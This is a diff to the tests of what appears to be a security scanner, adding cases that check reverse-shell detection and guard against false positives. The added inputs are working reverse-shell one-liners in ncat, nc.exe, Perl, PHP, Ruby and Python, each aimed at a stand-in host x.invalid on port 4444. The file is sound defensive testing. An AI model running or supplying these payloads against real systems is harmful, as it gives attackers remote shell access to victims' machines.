@@ -267,6 +267,19 @@ def test_an_environment_listing_alone_is_not_reported():
     "socat tcp:x.invalid:4444 exec:'bash -li',pty,stderr",
     "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc x.invalid 4444 >/tmp/f",
     "subprocess.call(['/bin/bash', '-i'], stdin=c.fileno(), stdout=c.fileno())",
+    "ncat x.invalid 4444 --exec /bin/bash",
+    "ncat --sh-exec 'bash -i' x.invalid 4444",
+    "nc.exe x.invalid 4444 -e cmd.exe",
+    "perl -e 'use Socket;$i=\"x.invalid\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
+    "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");};'",
+    "perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,\"x.invalid:4444\");STDIN->fdopen($c,r);$~->fdopen($c,w);"
+    "system$_ while<>;'",
+    "php -r '$sock=fsockopen(\"x.invalid\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
+    "ruby -rsocket -e 'f=TCPSocket.open(\"x.invalid\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
+    "import socket,os,pty\ns=socket.socket()\ns.connect(('x.invalid', 4444))\n"
+    "os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nos.dup2(s.fileno(), 2)\npty.spawn('/bin/bash')",
+    "s.connect((HOST, PORT))\nfor fd in (0, 1, 2):\n    pass\nos.dup2(s.fileno(),0); os.dup2(s.fileno(),1)\n"
+    "subprocess.call(['/bin/sh', '-i'])",
 ])
 def test_reverse_shells_are_found(command):
     assert severity("scripts/run.sh", command + "\n", "SK634") == "high"
@@ -297,6 +310,17 @@ def test_a_local_database_password_does_not_lower_a_remote_one_after_it():
             'Y = "postgresql://app:Wm4Rt8Kq2Zx6Nv3Lp9Yb@db.example.invalid/app"\n')
     assert [(f.line, f.severity) for f in audit_document("scripts/a.py", text) if f.code == "SK650"] == [
         (1, "medium"), (2, "high")]
+
+
+@pytest.mark.parametrize("text", [
+    "nc -z x.invalid 4444 && echo open",
+    "ncat --exec-timeout 5 x.invalid 4444",
+    "s = socket.socket()\ns.connect((host, port))\ns.sendall(b'ping')\nos.system('sh scripts/report.sh')",
+    "$fp = fsockopen('x.invalid', 80); fwrite($fp, $request); echo fgets($fp);",
+    "os.dup2(log.fileno(), 1)\nsubprocess.run(['make'])",
+])
+def test_network_code_that_hands_no_shell_over_is_not_a_reverse_shell(text):
+    assert "SK634" not in codes("scripts/run.sh", text + "\n")
 
 
 @pytest.mark.parametrize("grant", ["'*'", "Bash(sudo:*)", "Bash(sh -c:*)", "Bash(python3 *)", "Bash(/usr/bin/env:*)",
